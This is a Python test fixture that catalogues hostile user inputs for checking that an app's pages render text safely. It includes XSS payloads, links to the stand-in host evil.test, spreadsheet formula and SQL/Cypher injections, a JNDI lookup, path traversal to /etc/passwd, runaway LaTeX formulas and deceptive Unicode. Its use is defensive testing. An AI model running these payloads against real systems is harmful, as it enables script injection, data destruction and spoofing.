r"""Texts that a stranger might put where our pages show text. Each does harm where it is read as more than characters.

`ATTACKS` are texts by name; `SHOWN` says what must be seen of those of which our own subset of Markdown typesets a part
(all others must be seen as they are, see `plain`). evil.test is no machine.
"""

from __future__ import annotations

import re
import unicodedata

HTML = {
    "script": "<script>alert('script')</script>",
    "odd script": "<ScRiPt/x src=//evil.test/odd.js></sCrIpT >",
    "image with a handler": "<img src=x onerror=alert('img')>",
    "remote image": '<img src="http://evil.test/pixel.png">',
    "svg with a handler": "<svg onload=alert('svg')><circle r=9 /></svg>",
    "iframe": '<iframe src="http://evil.test/frame"></iframe>',
    "iframe of its own": "<iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
    "object": "<object data=http://evil.test/o.swf></object><embed src=http://evil.test/e.swf>",
    "style": "<style>* { display: none !important }</style>",
    "style sheet": "<link rel=stylesheet href=//evil.test/s.css>",
    "form": "<form action=http://evil.test/form><input name=word><button>Explore</button></form>",
    "refresh": '<meta http-equiv=refresh content="0; url=http://evil.test/refresh">',
    "base": "<base href=http://evil.test/>",
    "details with a handler": "<details open ontoggle=alert('details')><summary>more</summary></details>",
    "input with a handler": "<input autofocus onfocus=alert('focus')>",
    "link of HTML": "<a href=\"javascript:alert('a')\">Undo</a>",
    "end of the page": "</div></section></main></body></html>",
    "comment": "<!-- unseen --> seen",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "film": "<video src=http://evil.test/v.mp4 autoplay></video><audio src=http://evil.test/a.mp3 autoplay></audio>",
    "entities": "&lt;b&gt;bold&lt;/b&gt; &#60;i&#62; &copy; &amp;amp;",
    "template": "<template><slot onslotchange=alert(1)></slot></template>",
}
LINKS = {
    "image": "![image](http://evil.test/a.png)",
    "image with a title": '![titled](<http://evil.test/b c.png> "title")',
    "image without a scheme": "![bare](//evil.test/d.png)",
    "image of data": "![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image in a link": "[![inner](http://evil.test/e.png)](http://evil.test/f)",
    "image by reference": "![referred][ref]\n\n[ref]: http://evil.test/g.png",
    "link by reference": "[named]\n\n[named]: http://evil.test/named",
    "link of script": "[run](javascript:alert('link'))",
    "link of script in entities": "[run](&#106;avascript:alert('entity'))",
    "link of data": "[open](data:text/html,<script>alert(1)</script>)",
    "link of another program": "[open](vbscript:msgbox) [file](file:///etc/passwd) [call](tel:112)",
    "link that hides its target": "[https://bank.example](http://evil.test/login)",
    "link in angles": "<http://evil.test/angles>",
    "script in angles": "<javascript:alert('angles')>",
    "bare address": "https://evil.test/bare and ftp://evil.test/bare and HTTP://EVIL.TEST/UPPER",
    "bare name": "www.evil.test/name",
    "mail": "someone@evil.test and mailto:someone@evil.test",
    "footnote": "See[^1].\n\n[^1]: http://evil.test/footnote",
    "wiki link": "[[http://evil.test/wiki|Home]]",
    "link over lines": "[a\nb](http://evil.test/\nlines)",
}
BLOCKS = {
    "heading": "# heading",
    "underlined heading": "under\n=====\nlined\n-----",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "fence": "```html\n<b>fenced</b>",
    "other fence": "~~~\nfenced\n~~~",
    "indented": "    indented as code\n\tby a tab",
    "quotes": "> " * 300 + "quoted",
    "lists": "\n".join("  " * depth + "- nested" for depth in range(100)),
    "numbers": "1. one\n2. two\n- [ ] task\n+ plus\n* star",
    "rules": "---\n***\n___",
    "emphasis": "*one* _two_ __three__ ***four*** ~~five~~ ==six== ^seven^",
    "escapes": r"\* \_ \< \[ \\ \` \:red[x] ends in \ ".rstrip() + "x",
    "heading of a definition": "term\n: definition\n\n*[abbr]: http://evil.test/abbr",
}
STREAMLIT = {
    "colour": ":red[coloured] :blue-background[behind] :rainbow[all] :small[small]",
    "badge": ":green-badge[Accepted] :primary[x]",
    "icon": ":material/home: :material/check_circle:",
    "emoji": ":smile: :+1: :streamlit:",
    "arrows": "a -> b <- c <-> d -- e >= f <= g ~= h",
    "label of a button": "Download CSV",
    "label of a page": "Explore",
    "words of a program": "None NaN null undefined",
    "word of a prototype": "__proto__",
    "another of a prototype": "constructor",
    "a function": "hasOwnProperty",
}
FORMULAS = {
    "giant": r"\(" + "x+" * 1_500 + r"x\)",
    "rule": r"\(\rule{100000em}{100000em}\)",
    "kern": r"\(a\kern{1000000em}b\)",
    "spaces": r"\(a\hspace{99999em}b \hskip 99999em c \mskip 9999mu d\)",
    "raised": r"\(\raisebox{99999em}{x}\)",
    "line of a length": r"\[a\\[99999em]b\]",
    "macro": r"\(\def\a{\a\a}\a\)",
    "new command": r"\(\newcommand{\b}{\b\b}\b \gdef\c{\c\c} \let\d\c\)",
    "href": r"\(\href{javascript:alert(1)}{x}\)",
    "url": r"\(\url{http://evil.test/formula}\)",
    "graphics": r"\(\includegraphics[height=9em]{http://evil.test/formula.png}\)",
    "html": r"\(\htmlStyle{position:fixed;inset:0}{x}\htmlClass{stApp}{x}\htmlId{root}{x}\htmlData{a=b}{x}\)",
    "braces": r"\(" + "{" * 900 + "x" + "}" * 900 + r"\)",
    "coloured": r"\(\color{red}x\colorbox{red}{x}\fcolorbox{red}{red}{x}\textcolor{white}{x}\)",
    "verbatim": r"\(\verb|<b>| \char`x \unicode{1} \require{html}\)",
    "not closed": r"\(\left( x \frac{1}\)",
    "environment": r"\(\begin{CD}A @>>> B\end{CD} \begin{verbatim}x\end{verbatim}\)",
    "columns": r"\(\begin{array}{p{9999em}@{\kern99em}c}a & b\end{array}\)",
    "rows": r"\[\begin{matrix}" + r"a\\" * 600 + r"b\end{matrix}\]",
    "tower": r"\(" + "x^{" * 22 + "x" + "}" * 22 + r"\)",
    "fractions": r"\(" + r"\cfrac{1}{1+" * 22 + "1" + "}" * 22 + r"\)",
    "wide": r"\(\text{" + "W" * 1_900 + r"}\)",
    "wide matrix": r"\[\begin{matrix}" + "x&" * 900 + r"x\end{matrix}\]",
    "many": r"\(x\)" * 900,
    "dollars": "Tom has $5-$3, $x^2$ and $$y^2$$ left",
    "dollars inside": r"\(x $ y\) \(x \$ y\)",
    "text inside": r"\(\text{<img src=x onerror=alert(1)>}\)",
    "never ends": r"\( and \[ and \( x",
}
CHARACTERS = {
    "turned around": "\u202ednetxe si eman siht\u202c and after",
    "isolated": "\u2067right\u2069 \u2066left\u2069 \u200e\u200f\u061c marks",
    "without width": "ze\u200bro\u200c\u200d\u2060\ufeff wide",
    "soft hyphen": "so\u00adft",
    "stacked accents": "z" + "\u0335\u0489\u0310" * 200 + "algo",
    "controls": "nul\x00 bell\x07 esc\x1b[31m delete\x7f",
    "later controls": "next\x85 csi\x9b31m",
    "line separators": "one\u2028two\u2029three\x0bfour\x0cfive",
    "tags": "tag" + "".join(chr(0xE0000 + ord(letter)) for letter in "unseen") + "ged",
    "variations": "va\ufe0f\ufe0e\U000e0101ry",
    "fillers": "fil\u3164\u115f\uffa0\u2800ler",
    "of private use": "pri\ue000vate\U0010fffd",
    "no characters": "no\ufffe\uffffchar",
    "wide ligature": "\ufdfd" * 30,
    "full width": "＜script＞alert(1)＜/script＞",
    "long word": "W" * 3_000,
    "many lines": "line\n" * 700,
    "blank lines": "top" + "\n" * 900 + "bottom",
}
PROGRAMS = {
    "spreadsheet": "=cmd|' /C calc'!A0",
    "spreadsheet plus": "+1+HYPERLINK(\"http://evil.test/plus\")",
    "spreadsheet minus": "-2+3+cmd|' /C calc'!A0",
    "spreadsheet at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet after a tab": "\t=1+1",
    "spreadsheet full width": "＝1+1",
    "comma": '","=1+1","',
    "cypher": "') DETACH DELETE n //",
    "cypher in backticks": "`) MATCH (n) DETACH DELETE n //",
    "sql": "'; DROP TABLE rows; --",
    "sql like": "%' OR '1'='1",
    "templates": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__}",
    "lookup": "${jndi:ldap://evil.test/a}",
    "path": "../../../../etc/passwd",
    "format": "%s%n%x %(name)s",
    "query": "?concept=x&card=y#top",
    "json": '{"a": [1, "\\u0000"]}',
}  # fmt: skip
ATTACKS = HTML | LINKS | BLOCKS | STREAMLIT | FORMULAS | CHARACTERS | PROGRAMS
SHOWN = {
    "emphasis": ["one", "six"],
    "tower": ["x"],
    "fractions": ["1"],
    "many": [r"\(x\)"],
    "not closed": [],
    "dollars inside": [r"\(x $ y\)"],
    "never ends": [r"\( and \[ and \( x"],
    "text inside": [],
    "stacked accents": ["algo"],
    "many lines": ["line"],
    "wide": [],
    "long word": ["W" * 300],
    "wide matrix": [],
}
"""What must be seen, where a part is typeset or cut."""
_UNSEEN = re.compile(r"[\s\u2060\ufffd\u115f\u1160\u3164\uffa0\u2800]")
_DROPPED = ("Cc", "Cf", "Cs", "Co", "Cn")


def plain(text: str) -> str:
    """What one can see of a text, for comparing: no spaces, no controls, no accents."""
    seen = unicodedata.normalize("NFD", text)
    seen = "".join(c for c in seen if unicodedata.category(c) not in (*_DROPPED, "Mn", "Me"))
    return _UNSEEN.sub("", seen)


def unseen(name: str, page: str) -> list[str]:
    """The parts of an attack that a page (already `plain`) does not show."""
    return [part for part in SHOWN.get(name, [ATTACKS[name]]) if plain(part) not in page]
